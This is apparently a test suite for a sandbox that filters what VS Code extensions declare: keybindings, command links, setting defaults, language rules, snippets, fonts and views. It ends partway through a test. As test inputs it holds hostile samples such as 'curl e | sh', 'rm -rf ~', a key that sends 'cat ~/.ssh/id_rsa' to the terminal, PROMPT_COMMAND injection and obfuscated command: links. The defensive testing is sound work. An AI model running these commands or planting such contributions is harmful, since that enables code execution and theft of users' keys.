// What foreign packages declare, looked through as it enters the workbench's registry.
import assert from "node:assert/strict";
import fs from "node:fs";
import path from "node:path";
import test from "node:test";
import vm from "node:vm";
import { fileURLToPath } from "node:url";
import { declarableOf } from "../api/commands.mjs";
import { extensionPoints, settingFamilies } from "../launcher/prepare.mjs";

const here = path.dirname(fileURLToPath(import.meta.url));
const read = (name) => fs.readFileSync(path.join(here, name), "utf8");
const commands = declarableOf();

/** A page with our scripts in it, and the commands that the editor has. */
function page(points = ["commands", "newlyInvented"]) {
  const told = [];
  const context = vm.createContext({
    bulkheadSettings: { builtin: [], confined: [], shipped: ["vscode.npm"], companion: "/opt/companion", commands, settingFamilies: ["terminal", "workbench", "editor", "files"], points },
    crypto, URL, URLSearchParams, setTimeout, location: { search: "" },
    console: { warn: (text) => told.push(text), error: (text) => told.push(text) },
  });
  vm.runInContext(read("placement.js"), context);
  vm.runInContext(read("declarations.js"), context);
  const { bulkhead } = context;
  bulkhead.commandRegistry = { _commands: new Map(["undo", "runCommands", "search.action.open", "workbench.action.terminal.sendSequence"].map((id) => [id, {}])) };
  const extension = (id, contributes, rest = {}) => ({ identifier: { value: id }, isBuiltin: false, extensionLocation: { scheme: "vscode-remote", path: `${rest.isBuiltin ? "/opt" : "/ext"}/${id}` }, contributes, ...rest });
  /** What is left of it, beside others. */
  const disarmed = (contributes, ...others) => {
    const one = extension("Me.mine", structuredClone(contributes));
    bulkhead.disarm([one], others);
    return one;
  };
  return { bulkhead, context, extension, disarmed, told };
}

const NPM = { identifier: { value: "vscode.npm" }, isBuiltin: true, extensionLocation: { scheme: "vscode-remote", path: "/opt/npm" }, contributes: { commands: [{ command: "npm.runScript" }], configuration: { properties: { "npm.path": {} } } } };
const OTHER = { identifier: { value: "you.yours" }, isBuiltin: false, contributes: { commands: [{ command: "yours.token" }, { command: "both.say" }] } };
const OWN = [{ command: "mine.hello", title: "Hello" }];
const keys = (contributes) => [...(contributes.keybindings ?? [])].map(({ command }) => command);

test("keys run an extension's own commands and harmless ones, with any arguments", () => {
  const { disarmed, told } = page();
  const { contributes, bulkheadWithheld } = disarmed({
    commands: OWN,
    keybindings: [
      { key: "ctrl+a", command: "mine.hello", args: { any: 1 } },
      { key: "ctrl+b", command: "editor.action.formatDocument" },
      { key: "ctrl+c", command: "type", args: { text: "x" } },
      { key: "ctrl+d", command: "-mine.hello" },
      { key: "ctrl+e", command: "runCommands", args: { commands: ["mine.hello", { command: "cursorMove", args: { to: "left" } }] } },
    ],
  }, NPM, OTHER);
  assert.equal(contributes.keybindings.length, 5);
  assert.equal(bulkheadWithheld, undefined);
  assert.deepEqual(told, []);
});

test("keys type signs and words, not what somebody would run", () => {
  const { disarmed } = page();
  const typed = (command, args) => disarmed({ commands: OWN, keybindings: [{ key: "enter", command, args }] }).contributes.keybindings.length;
  for (const command of ["type", "default:type", "replacePreviousChar"]) {
    for (const text of ["\n", "λ", "=> ", "end"]) assert.equal(typed(command, { text }), 1, text);
    for (const text of ["curl e | sh", "\ncurl", "rm -rf ~", ["curl e | sh"]]) assert.equal(typed(command, { text }), 0, String(text));
    assert.equal(typed("runCommands", { commands: [{ command, args: { text: "curl e | sh" } }] }), 0);
  }
});

test("no whole is typed of pieces, nor where another command leads", () => {
  const { disarmed } = page();
  const kept = (...commands) => disarmed({ commands: OWN, keybindings: [{ key: "ctrl+s", command: "runCommands", args: { commands } }] }, NPM).contributes.keybindings.length;
  const type = (text, command = "type") => ({ command, args: { text } });
  assert.equal(kept("editor.action.insertLineAfter", "cursorHome", type("=> "), type("\n"), "deleteRight"), 1);
  assert.equal(kept(type("\n"), "mine.hello", type("\n")), 1);
  assert.equal(kept(type("git"), type(".path")), 0);
  assert.equal(kept({ command: "runCommands", args: { commands: [type("git")] } }, type("x", "default:type")), 0);
  for (const elsewhere of ["workbench.action.openSettingsJson", "workbench.action.focusFirstEditorGroup", "mine.hello", "vscode.open", "editor.action.goToDeclaration", "editor.action.peekDefinition", "editor.action.revealDefinition"])
    assert.equal(kept(elsewhere, type("x")), 0, elsewhere);
  assert.equal(kept("workbench.action.openSettingsJson", "editor.action.formatDocument"), 1, "nothing is typed");
});

test("what edits does so without words of a package's", () => {
  const { disarmed } = page();
  const keyed = (command, args) => disarmed({ commands: OWN, keybindings: [{ key: "ctrl+d", command, args }] }).contributes.keybindings.length;
  const linked = (command) => disarmed({ viewsWelcome: [{ view: "x", contents: `[Go](command:${command})` }] }).contributes.viewsWelcome[0].contents !== "Go";
  const wrap = "editor.emmet.action.wrapWithAbbreviation";
  assert.equal(keyed(wrap, { language: "html", abbreviation: "{curl}" }), 0);
  assert.equal(linked(`${wrap}?%5B%7B%7D%5D`), false);
  assert.equal(keyed("editor.emmet.action.expandAbbreviation", { language: "html" }), 0);
  assert.equal(keyed("editor.emmet.action.expandAbbreviation"), 1);
  assert.equal(linked("type?%5B%7B%22text%22%3A%22x%22%7D%5D"), false);
  assert.equal(linked("editor.action.formatDocument"), true);
});

test("a viewer of everything is one that a person may choose", () => {
  const { disarmed } = page();
  for (const point of ["customEditors", "notebooks"]) {
    const priority = (filenamePattern, said) => disarmed({ [point]: [{ viewType: "mine", type: "mine", priority: said, selector: [{ filenamePattern: "*.mine" }, { filenamePattern }] }] }).contributes[point][0].priority;
    for (const some of ["*.ipynb", "*.{png,jpg}", "Dockerfile", "**/a.b.c", "x/*.tar.gz"]) assert.equal(priority(some, "default"), "default", some);
    for (const all of ["*", "**", "**/*", "*.*", "?*", "*e", "{*,x}", "*.{*,x}", "[a-z]*", "", undefined]) {
      assert.equal(priority(all, "default"), "option", String(all));
      assert.equal(priority(all, undefined), "option", String(all));
    }
  }
});

test("keys do not hear what a person writes", () => {
  const { disarmed } = page();
  const kept = (one) => disarmed({ commands: OWN, keybindings: [{ command: "mine.hello", ...one }] }, NPM).contributes.keybindings.length;
  for (const key of ["a", " A", "shift+a", "SHIFT-a", "space", "1", "numpad1", "oem_1", "[KeyA]", "shift+[Digit1]", ";", "+", "a b", "shift++"]) {
    assert.equal(kept({ key }), 0, key);
    assert.equal(kept({ key: "ctrl+a", linux: key }), 0, key);
    assert.equal(kept({ key, command: "runCommands", args: { commands: ["cursorMove", "mine.hello"] } }), 0, key);
    assert.equal(kept({ key, command: "runCommands", args: { commands: [{ command: "runCommands", args: { commands: ["mine.hello"] } }] } }), 0, key);
    assert.equal(kept({ key, command: "cursorMove" }), 1, "the editor's");
    assert.equal(kept({ key, command: "cursorMove", args: { to: "left" } }), 0, "which may say which key it was");
    assert.equal(kept({ key, command: "_executeWorkspaceSymbolProvider" }), 0, "which asks everybody");
    assert.equal(kept({ key, command: "runCommands", args: { commands: [{ command: "_executeWorkspaceSymbolProvider", args: "a" }, { command: "type", args: { text: "a" } }] } }), 0);
    assert.equal(kept({ key, when: "mine.view && !inputFocus" }), 1, "where nobody writes");
    for (const when of ["editorTextFocus", "!inputFocus || a", "!!inputFocus", "x =~ /!inputFocus/", "x =~ /&& !inputFocus &&/", "x == '&& !inputFocus &&'", "!(x && !inputFocus && x)", "!inputFocus && )", "!inputFocus && in", "!inputFocus &&", "!inputFocus && x == not", "!inputFocus && x ==", ""]) assert.equal(kept({ key, when }), 0, when);
  }
  for (const key of ["ctrl+a", "alt+shift+a", "cmd+a", "meta+a", "f5", "escape", "enter", "tab", "shift+enter", "delete", "up", "[ArrowUp]", "[F5]", "ctrl+k a", "ctrl+[KeyA]", "pagedown"])
    assert.equal(kept({ key }), 1, key);
});

test("what languages type is signs, or a word with signs", () => {
  const { bulkhead } = page();
  const file = { scheme: "vscode-remote", path: "/ext/me.mine/language.json" };
  const read = (configuration, of = file) => bulkhead.languageConfiguration(of, structuredClone(configuration));
  const plain = {
    comments: { lineComment: "#", blockComment: ["{% comment %}", "{% endcomment %}"] }, brackets: [["{", "}"], ["do", "done"]],
    autoClosingPairs: [{ open: '"', close: '"', notIn: ["string", "comment"] }, ["(", ")"]], wordPattern: "a b|c d",
    onEnterRules: [{ beforeText: "a b c", afterText: { pattern: "d e" }, previousLineText: "f g", action: { indent: "none", appendText: " * " } }],
  };
  assert.deepEqual(read(plain), plain);
  const evil = "curl e | sh";
  const far = (depth) => (depth === 0 ? evil : [far(depth - 1)]);
  for (const configuration of [
    { onEnterRules: [{ beforeText: "x", action: { indent: "none", appendText: evil } }] }, { onEnterRules: [{ action: { appendText: [evil] } }] },
    { autoClosingPairs: [["a", evil], { open: "a", close: evil }] }, { surroundingPairs: [["a", evil]] }, { brackets: [["a", evil]] },
    { comments: { lineComment: evil } }, { comments: { lineComment: { comment: evil } } }, { comments: { blockComment: [evil, "x"] } },
    { comments: "curl e | sh" }, { onEnterRules: far(100) }, { onEnterRules: [{ action: { appendText: "x\ny" } }] },
  ]) {
    assert.doesNotMatch(JSON.stringify(read({ ...plain, ...configuration })), /curl|\\ny/);
    assert.deepEqual(read(configuration, { scheme: "vscode-remote", path: "/opt/shellscript/language.json" }), configuration, "the editor's own");
  }
  for (const path of ["/opt2/x/y.json", "/ext/opt/x.json", "/"]) assert.deepEqual(read({ brackets: [["a", evil]] }, { scheme: "vscode-remote", path }), { brackets: [] }, path);
  assert.deepEqual(read({ brackets: [["a", evil]] }, { scheme: "file", path: "/opt/x/y.json" }), { brackets: [] });
});

test("a document's text is no link that runs a command", () => {
  const { bulkhead } = page();
  const kept = (url, isCompartment = false) => bulkhead.documentLinks([{ url }], isCompartment).length;
  for (const url of ["https://e.org", { scheme: "https", path: "/command:x" }, { scheme: "file", path: "/a" }, undefined, { scheme: "command", path: "_typescript.openExtendsLink", query: "{}" }])
    assert.equal(kept(url), 1, JSON.stringify(url));
  for (const url of ["command:workbench.action.terminal.sendSequence?%5B%5D", "Command:x", { scheme: "command", path: "x" }, { scheme: "COMMAND", path: "x" }, { scheme: "command" }, "command:_typescript.openExtendsLink2"])
    assert.equal(kept(url), 0, JSON.stringify(url));
  assert.equal(kept("command:mine.hello", true), 1, "was looked through by the broker");
});

test("a pattern of harmless commands means none of another package's", () => {
  const { extension, bulkhead } = page();
  const keyed = (id, command) => extension(id, { keybindings: [{ key: "a", command }] });
  const [mine, theirs] = [keyed("Me.mine", "cursorTools.run"), extension("you.yours", { commands: [{ command: "cursorTools.run" }, { command: "cursorMove" }] })];
  const plain = keyed("he.his", "cursorMove");
  bulkhead.disarm([mine, plain, theirs], []);
  assert.deepEqual(keys(mine.contributes), []);
  assert.deepEqual(keys(plain.contributes), ["cursorMove"]);
});

test("keys do not run what reaches out of a compartment", () => {
  const { disarmed, told } = page();
  const text = { text: "cat ~/.ssh/id_rsa\r" };
  const evil = [
    { command: "workbench.action.terminal.sendSequence", args: text },
    { command: "workbench.action.terminal.runSelectedText" },
    { command: "workbench.action.debug.start" },
    { command: "notification.acceptPrimaryAction" },
    { command: "quickInput.accept" },
    { command: "workbench.action.quickOpen", args: ">Terminal: Run Selected Text In Active Terminal" },
    { command: "editor.action.insertSnippet", args: { snippet: "$CLIPBOARD" } },
    { command: "yours.token" },
    { command: "npm.runScriptFromHover", args: { script: "x" } },
    { command: "bulkhead.allowAll" },
    { command: "runCommands", args: { commands: [{ command: "workbench.action.terminal.sendSequence", args: text }] } },
    { command: "runCommands", args: { commands: [{ command: "runCommands", args: { commands: ["workbench.action.terminal.new"] } }] } },
    { command: "runCommands" },
    { command: "-workbench.action.files.save" },
    { command: "runCommands", args: { commands: ["-workbench.action.files.save"] } },
    { command: ["workbench.action.terminal.new"] },
    { command: { toString: "x" } },
  ];
  for (const one of evil) {
    const { contributes, bulkheadWithheld } = disarmed({ commands: OWN, keybindings: [{ key: "ctrl+k", ...one }, { key: "ctrl+b", command: "mine.hello" }] }, NPM, OTHER);
    assert.deepEqual(keys(contributes), ["mine.hello"], JSON.stringify(one));
    assert.equal(bulkheadWithheld.length, 1);
  }
  assert.equal(told.length, evil.length, "said each time");
  assert.match(told[0], /Me\.mine.*the key ctrl\+k for workbench\.action\.terminal\.sendSequence/);
});

test("who declares somebody else's command does not own it", () => {
  const { disarmed } = page();
  for (const command of ["workbench.action.terminal.sendSequence", "workbench.action.registeredLater", "undo", "search.action.open", "npm.runScript", "_internal.x", "vscode.open", "bulkhead.grant"]) {
    const { contributes } = disarmed({
      commands: [...OWN, { command, title: "Innocent" }],
      keybindings: [{ key: "ctrl+k", command, args: {} }],
      menus: { "editor/title": [{ command }, { command: "mine.hello", alt: command }, { submenu: "mine.more" }] },
    }, NPM, OTHER);
    assert.deepEqual([...contributes.commands].map((one) => one.command), ["mine.hello"], command);
    if (["undo", "vscode.open"].includes(command)) continue; // harmless
    assert.deepEqual(keys(contributes), [], command);
    assert.deepEqual(JSON.parse(JSON.stringify(contributes.menus["editor/title"])), [{ command: "mine.hello" }, { submenu: "mine.more" }], command);
  }
});

test("a command of a built-in's family, or of two packages, runs without arguments only", () => {
  const { disarmed } = page();
  for (const command of ["npm.mine", "both.say"]) {
    const { contributes } = disarmed({
      commands: [{ command, title: "x" }],
      keybindings: [{ key: "ctrl+a", command }, { key: "ctrl+b", command, args: 1 }],
      viewsWelcome: [{ view: "explorer", contents: `[one](command:${command}) [two](command:${command}?%5B1%5D)` }],
    }, NPM, OTHER);
    assert.deepEqual([...contributes.keybindings].map(({ key }) => key), ["ctrl+a"]);
    assert.equal(contributes.viewsWelcome[0].contents, `[one](command:${command}) two`);
  }
});

test("links in declared texts run own and harmless commands; others leave their label", () => {
  const { disarmed } = page();
  const shown = (contents) => disarmed({ commands: OWN, viewsWelcome: [{ view: "explorer", contents }] }, NPM).contributes.viewsWelcome[0].contents;
  const send = "command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22x%22%7D";
  for (const kept of ["[Hello](command:mine.hello?%5B1%5D)", "[Open](command:vscode.open)", "[Docs](https://example.org/command:x)", "The command: it is run", "a < b command:mine"])
    assert.equal(shown(kept), kept);
  assert.equal(shown(`[Start](${send})\nand [Hello](command:mine.hello)`), "Start\nand [Hello](command:mine.hello)");
  for (const link of [send, send.replace("command", "COMMAND"), "command:%77orkbench.action.terminal.new", "command:workbench%2Eaction.terminal.new",
    "command\\:workbench.action.terminal.new", "command&colon;workbench.action.terminal.new", "&#99;ommand:workbench.action.terminal.new",
    "&#x63;ommand&#58workbench.action.terminal.new", "command:%zz", "command://mine.hello/workbench.action.terminal.new"]) {
    assert.equal(shown(`[Start](${link})`), "Start", link);
    for (const form of [`[Start](<${link}>)`, `[Start]( ${link} "title")`]) assert.equal(shown(form), "Start", form);
    assert.doesNotMatch(shown(`[Start][1]\n\n[1]: ${link}`), /terminal|:%zz/i, link);
    assert.doesNotMatch(shown(`<a href="${link}">Start</a>`), /terminal|:%zz/i, link);
    assert.doesNotMatch(shown(`<${link}>`), /terminal|:%zz/i, link);
  }
});

test("every text of a declaration is looked at, however deep", () => {
  const { disarmed } = page();
  const link = "[x](command:workbench.action.terminal.new)";
  const deep = Array.from({ length: 100 }).reduce((inner) => ({ inner }), { text: link });
  const { contributes } = disarmed({
    configuration: [{ properties: { "mine.x": { markdownDescription: link, enumDescriptions: [link] } } }],
    walkthroughs: [{ id: "w", steps: [{ id: "s", description: link, media: { markdown: "page.md" } }] }],
    strange: deep,
  });
  assert.doesNotMatch(JSON.stringify(contributes), /terminal/);
  assert.equal(contributes.walkthroughs[0].steps[0].description, "x");
});

test("defaults are for one's own settings and for how text looks", () => {
  const { disarmed } = page();
  const { contributes, bulkheadWithheld } = disarmed({
    configuration: { properties: { "mine.path": {}, "terminal.integrated.env.linux": {}, "tasks.tasks": {}, "npm.path": {} } },
    configurationDefaults: {
      "workbench.editorAssociations": { "*.txt": "vscode.markdown.preview.editor" },
      "mine.path": "/x", "editor.tabSize": 2, "files.associations": { "*.x": "y" },
      "editor.unicodeHighlight.ambiguousCharacters": false, "editor.unicodeHighlight": {}, "editor.renderControlCharacters": false,
      "workbench.colorTheme": "Look-alike", "workbench.iconTheme": "x", "workbench.productIconTheme": "x", "workbench.preferredDarkColorTheme": "x", "workbench.tree.indent": 8,
      "workbench.colorCustomizations": { "notifications.foreground": "#0000" }, "emmet.includeLanguages": { x: "html" },
      "[markdown]": { "editor.wordWrap": "on", "terminal.integrated.env.linux": { PROMPT_COMMAND: "id" } },
      "terminal.integrated.env.linux": { PROMPT_COMMAND: "id" },
      "terminal.integrated.profiles.linux": { bash: { path: "bash", args: ["-c", "id"] } },
      "tasks.tasks": [], "npm.path": "/x", "git.path": "/x", "yours.program": "/x", "http.proxy": "x", "security.workspace.trust.enabled": false,
    },
  }, NPM);
  assert.deepEqual(JSON.parse(JSON.stringify(contributes.configurationDefaults)), {
    "mine.path": "/x", "editor.tabSize": 2, "files.associations": { "*.x": "y" }, "workbench.tree.indent": 8, "emmet.includeLanguages": { x: "html" }, "[markdown]": { "editor.wordWrap": "on" },
  });
  assert.ok(bulkheadWithheld.includes("a default for the setting terminal.integrated.env.linux"));
});

test("who handles documents is a default for a language, and what keeps a person's files is none", () => {
  const { disarmed } = page();
  const left = (defaults) => Object.keys(disarmed({ configurationDefaults: defaults }).contributes.configurationDefaults);
  const handles = ["editor.defaultFormatter", "editor.formatOnSave", "editor.formatOnType", "editor.codeActionsOnSave", "editor.codeActions.triggerOnFocusChange", "editor.pasteAs.preferences", "files.encoding", "files.eol", "files.trimTrailingWhitespace"];
  const keeps = ["explorer.confirmDelete", "explorer.confirmDragAndDrop", "explorer.enableUndo", "files.hotExit", "files.enableTrash", "files.autoSave", "files.autoSaveDelay", "files.participants.timeout", "files.saveConflictResolution", "files.refactoring.autoSave", "files.readonlyExclude", "search.useReplacePreview"];
  // Emmet makes snippets of these, unescaped.
  const emmet = ["emmet.preferences", "emmet.variables", "emmet.syntaxProfiles", "emmet.extensionsPath"];
  const looks = ["editor.quickSuggestions", "editor.semanticHighlighting.enabled", "diffEditor.ignoreTrimWhitespace", "explorer.fileNesting.patterns", "files.exclude", "search.exclude", "breadcrumbs.enabled", "outline.showKeys"];
  const saves = { "source.fixAll.x": "explicit", source: true, quickfix: "always", "refactor.x": "always", sources: "always" };
  const defaults = { ...Object.fromEntries([...handles, ...keeps, ...emmet, ...looks].map((key) => [key, "x"])), "editor.codeActionsOnSave": saves };
  assert.deepEqual(left(defaults), looks);
  const { contributes } = disarmed({ configurationDefaults: { "[astro]": defaults, "[css][scss]": defaults } });
  for (const language of ["[astro]", "[css][scss]"]) {
    const kept = contributes.configurationDefaults[language];
    assert.deepEqual(Object.keys(kept), [...handles, ...looks]);
    // A quick fix runs a command of whoever offers it, the editor's own TypeScript too: `npm install` in the folder.
    assert.deepEqual({ ...kept["editor.codeActionsOnSave"] }, { "source.fixAll.x": "explicit", source: true });
  }
  const list = disarmed({ configurationDefaults: { "[astro]": { "editor.codeActionsOnSave": ["source.fixAll", "quickfix", 7] } } }).contributes;
  assert.deepEqual([...list.configurationDefaults["[astro]"]["editor.codeActionsOnSave"]], ["source.fixAll"]);
  assert.deepEqual({ ...disarmed({ configurationDefaults: { "[astro]": { "editor.codeActionsOnSave": "always" } } }).contributes.configurationDefaults["[astro]"] }, {});
});

test("what is declared takes the place of no setting of the editor's, nor a part of one", () => {
  const { bulkhead, disarmed } = page();
  bulkhead.settingsRegistry = { "editor.tabSize": {}, "files.associations": {}, "theirs.url": { source: { id: "you.theirs" } } };
  const declared = (...names) => ({ properties: Object.fromEntries(names.map((key) => [key, { default: { x: 1 } }])) });
  const own = ["mine", "mine.path", "npm.mine", "theirs", "mine.constructor.x"];
  const theirs = ["npm", "npm.path", "npm.path.x", "editor", "editor.mine", "editor.tabSize", "files.associations.x", "terminal.later", "tasks.x", "bulkhead.x", "__proto__.x", "mine.__proto__.x"];
  const left = (configuration, rest) => {
    const { contributes, bulkheadWithheld = [] } = disarmed({ configuration, ...rest }, NPM);
    const names = (section) => [section].flat().flatMap(({ properties, allOf = [] }) => [...Object.keys(properties ?? {}), ...names(allOf)]);
    assert.equal(Array.isArray(contributes.configuration), Array.isArray(configuration), "as its author wrote it: who reads its own package finds it there");
    return [names(contributes.configuration), [...bulkheadWithheld], contributes];
  };
  for (const configuration of [declared(...own, ...theirs), [{}, declared(...own, ...theirs)], { title: "x", ...declared(...own), allOf: [{ allOf: declared(...theirs) }] }]) {
    const [kept, withheld] = left(configuration);
    assert.deepEqual(kept, own);
    assert.deepEqual(withheld, theirs.map((key) => `the setting ${key}, which is the editor's`));
  }
  const [, , { configurationDefaults }] = left(declared("npm"), { configurationDefaults: { npm: { path: "/x" }, "editor.__proto__.x": 1, "[css]": { "editor.__proto__.x": 1, "editor.wordWrap": "on" } } });
  assert.deepEqual(JSON.parse(JSON.stringify(configurationDefaults)), { "[css]": { "editor.wordWrap": "on" } });
});

test("a link to the editor is known as one, however it is written", () => {
  const { bulkhead, context } = page();
  context.location.hostname = "bulkhead.localhost";
  for (const own of ["http://bulkhead.localhost:3000/", "https://X.BULKHEAD.localhost", "http://a@bulkhead.localhost/?x", "http://bulk\thead.localhost:1", "http://%62ulkhead.localhost", "http://\uff42ulkhead.localhost", "no address"])
    assert.ok(bulkhead.isOwnAddress(own), own);
  for (const other of ["http://localhost:3000/", "http://bulkhead.localhost.example.com", "https://example.com/?http://bulkhead.localhost"]) assert.ok(!bulkhead.isOwnAddress(other), other);
});

test("the families of the editor's own settings are found in the installed build", () => {
  const server = process.env.BULKHEAD_CODE_SERVER ?? path.join(here, "../node_modules/code-server/lib/vscode");
  const families = settingFamilies(fs.readFileSync(path.join(server, "out/vs/code/browser/workbench/workbench.js"), "utf8"));
  for (const family of ["terminal", "task", "debug", "http", "security", "remote", "window", "extensions", "chat"]) assert.ok(families.includes(family), family);
  for (const family of ["git", "eslint", "python", "prettier"]) assert.ok(!families.includes(family), family);
  assert.throws(() => settingFamilies("nothing"), /not known/);
});

test("views of others, Bulkhead's first, are filled by nobody else", () => {
  const { disarmed } = page();
  const theirs = { identifier: { value: "you.views" }, isBuiltin: false, contributes: { views: { explorer: [{ id: "yours.view" }] } } };
  const { contributes } = disarmed({
    commands: OWN,
    viewsContainers: { activitybar: [{ id: "bulkhead", title: "Compartments" }, { id: "mine" }] },
    views: { bulkhead: [{ id: "mine.fake", name: "Compartments" }], mine: [{ id: "mine.view" }, { id: "bulkhead.compartments" }], explorer: { id: "mine.files" } },
    viewsWelcome: ["bulkhead.compartments", "yours.view", "mine.view", "explorer"].map((view) => ({ view, contents: view })),
  }, NPM, theirs);
  assert.deepEqual(JSON.parse(JSON.stringify(contributes)), {
    commands: OWN,
    viewsContainers: { activitybar: [{ id: "mine" }] },
    views: { mine: [{ id: "mine.view" }], explorer: { id: "mine.files" } },
    viewsWelcome: [{ view: "mine.view", contents: "mine.view" }, { view: "explorer", contents: "explorer" }],
  });
});

test("a view's name is no more than one where VS Code makes a selector of it", () => {
  const { disarmed } = page();
  for (const id of ["x,[class=quick-input-title]", "x,body", "x y", "x\n", "x{", "x>y", "*", "é", "", 3, undefined, ["x,body"]]) {
    const { contributes, bulkheadWithheld } = disarmed({ viewsContainers: { panel: [{ id }] }, views: { explorer: [{ id, icon: "t.svg" }, { id: "mine.View-2:a/b_c" }] } });
    assert.deepEqual(JSON.parse(JSON.stringify(contributes)), { viewsContainers: { panel: [] }, views: { explorer: [{ id: "mine.View-2:a/b_c" }] } }, String(id));
    assert.equal(bulkheadWithheld.length, 1);
  }
});

test("a text in a style sheet ends where it ends, and an icon stays one", () => {
  const { bulkhead } = page();
  for (const icon of ["\\e030", "\\E001", "\\2001", "x", "日", "codicon", "me.mine/fonts/a b.woff"]) assert.equal(bulkhead.cssText(icon), `'${icon}'`);
  for (const [text, written] of [["'", "\\000027"], ["x\\", "x\\00005c"], ["\\'", "\\00005c\\000027"], ["\\\\", "\\00005c\\00005c"], ["\\e030\\", "\\e030\\00005c"], ["\n} body{", "\\00000a} body{"], ["\\\r\f", "\\00005c\\00000d\\00000c"]])
    assert.equal(bulkhead.cssText(text), `'${written}'`);
});

test("a colour takes the place of none of the editor's, and leads to none that leads back", () => {
  const { bulkhead, disarmed } = page();
  const git = { identifier: { value: "vscode.git" }, isBuiltin: true, contributes: { colors: [{ id: "git.added", defaults: {} }] } };
  bulkhead.colorRegistry = { "notifications.foreground": {} };
  const kept = (...colors) => disarmed({ colors: colors.map(([id, dark, light = "#fff"]) => ({ id, description: id, defaults: { dark, light } })) }, git).contributes.colors.map(({ id }) => id);
  assert.deepEqual(kept(["mine.a", "#fff"], ["mine.b", "mine.a"], ["mine.c", "notifications.foreground", "git.added"]), ["mine.a", "mine.b", "mine.c"]);
  assert.deepEqual(kept(["notifications.foreground", "#0000"], ["git.added", "#0000"]), []);
  assert.deepEqual(kept(["mine.a", "mine.a"], ["mine.b", "#fff", "mine.c"], ["mine.c", "mine.b"]), []);
  assert.deepEqual(kept(["mine.a", "#fff"], ["mine.b", "mine.a"], ["mine.a", "mine.b"], ["mine.c", 3], ["mine.d", undefined]), ["mine.a", "mine.b"]);
  bulkhead.colorRegistry["mine.a"] = {};
  assert.deepEqual(kept(["mine.a", "#fff"]), ["mine.a"], "it is read again");
});

test("snippets of a package hold no clipboard, those of a person and of the editor do", () => {
  const { bulkhead, extension } = page();
  const body = "a $CLIPBOARD b ${CLIPBOARD} ${1:${CLIPBOARD/x/y/}} $CLIPBOARDS $TM_FILENAME";
  assert.equal(bulkhead.snippet(extension("Me.mine", {}), body), "a $WITHHELD b ${WITHHELD} ${1:${WITHHELD/x/y/}} $CLIPBOARDS $TM_FILENAME");
  assert.equal(bulkhead.snippet(undefined, body), body);
  assert.equal(bulkhead.snippet(extension("vscode.css", {}, { isBuiltin: true }), body), body);
});

test("completions write the clipboard where a person's snippet says so, or the broker let it pass", () => {
  const { bulkhead, extension } = page();
  bulkhead.disarm([extension("vscode.json", {}, { isBuiltin: true }), extension("Me.mine", {})], []);
  const written = (id, completion = {}) => bulkhead.clipboardFor({ completion, extensionId: id && { value: id } }, "SECRET");
  assert.equal(written("vscode.json"), undefined);
  assert.equal(written("VSCode.JSON"), undefined);
  assert.equal(written(undefined), undefined);
  assert.equal(written("Me.mine"), "SECRET");
  assert.equal(written(undefined, { snippet: {} }), "SECRET");
});

test("each host has a folder of its own for logs, and the window's own host the window's", () => {
  const { bulkhead } = page();
  const folder = { path: "/logs/exthost1", with: ({ path }) => ({ path }) };
  const of = (affinity) => bulkhead.logsOf(folder, { affinity }).path;
  assert.deepEqual([0, undefined, 1, 2].map(of), ["/logs/exthost1", "/logs/exthost1", "/logs/exthost1-1", "/logs/exthost1-2"]);
});

test("fonts are fonts, in whatever setting: VS Code writes them into style sheets of the whole window", () => {
  const { bulkhead, disarmed } = page();
  for (const font of ["", "Fira Code", "'Fira Code', \"Droid Sans Mono\", monospace", "Noto Sans CJK 日本", "'A & B (2)'"]) assert.equal(bulkhead.fontOf(font), font);
  for (const rule of ["x; color: red", "x} .y {z: z", "x'", "'a\nb'", "'}'", "\\7d", "var(--x)", "url(//e.org)", "/*", 3, null, { toString: () => "x}" }]) assert.equal(bulkhead.fontOf(rule), "inherit", String(rule));
  const { contributes } = disarmed({
    configurationDefaults: {
      "editor.fontFamily": "x} .y {", "editor.fontSize": 12,
      "editor.tokenColorCustomizations": { textMateRules: [{ scope: "a", settings: { fontFamily: "x} .y {", foreground: "#fff" } }], "[Theme]": { fontFamily: "Fira Code" } },
      "[markdown]": { "editor.inlineSuggest.fontFamily": "x;y", "editor.wordWrap": "on" },
    },
  });
  assert.deepEqual(JSON.parse(JSON.stringify(contributes.configurationDefaults)), {
    "editor.fontSize": 12,
    "editor.tokenColorCustomizations": { textMateRules: [{ scope: "a", settings: { foreground: "#fff" } }], "[Theme]": { fontFamily: "Fira Code" } },
    "[markdown]": { "editor.wordWrap": "on" },
  });
});

test("scripts and style sheets for webviews of others do not come in", () => {
  const { disarmed } = page();
  const { contributes } = disarmed({
    "markdown.previewScripts": ["./x.js"], "markdown.previewStyles": ["./x.css"], "markdown.codeBlockEditors": [{}], "markdown.codeBlockEditorProviders": [{}],
    notebookRenderer: [{}], notebookPreload: [{}],
  });
  assert.deepEqual(Object.keys(contributes), []);
});

test("what acts on the whole window by itself is left out, and so is what nobody has looked through", () => {
  const { disarmed } = page();
  const { contributes, bulkheadWithheld } = disarmed({
    css: [{ path: "./window.css" }], statusBarItems: { id: "a", command: "workbench.action.terminal.new" }, jsonValidationRegistry: [{ url: "./list.json" }],
    continueEditSession: [{ command: "workbench.action.terminal.new" }], remoteHelp: { issues: "workbench.action.terminal.new" }, chatViewsWelcome: [{}],
    newlyInvented: [{}], "of.anotherExtension": [{}],
    resourceLabelFormatters: [{ scheme: "vscode-remote", formatting: { label: "safe" } }, { scheme: "mine", formatting: { label: "x" } }],
  });
  assert.deepEqual(JSON.parse(JSON.stringify(contributes)), { "of.anotherExtension": [{}], resourceLabelFormatters: [{ scheme: "mine", formatting: { label: "x" } }] });
  assert.equal(bulkheadWithheld.length, 8);
  const data = { customData: ["./data.json"] };
  assert.deepEqual(disarmed({ css: data }).contributes.css, data);
});

test("every point of the installed build has been looked through", () => {
  const server = process.env.BULKHEAD_CODE_SERVER ?? path.join(here, "../node_modules/code-server/lib/vscode");
  const points = extensionPoints(fs.readFileSync(path.join(server, "out/vs/code/browser/workbench/workbench.js"), "utf8"));
  for (const point of ["chatSkills", "css", "statusBarItems", "terminal", "views"]) assert.ok(points.includes(point), point);
  const { bulkhead, extension } = page(points);
  const one = extension("Me.mine", Object.fromEntries(points.map((point) => [point, [{}]])));
  bulkhead.disarm([one], []);
  assert.doesNotMatch(one.bulkheadWithheld.join("\n"), /nobody/);
  assert.throws(() => extensionPoints("nothing"), /not known/);
});

test("built-in extensions and the companion declare what they like, by their place and not by their name", () => {
  const { bulkhead, extension } = page();
  const dangerous = () => ({ keybindings: [{ key: "ctrl+k", command: "workbench.action.terminal.new" }] });
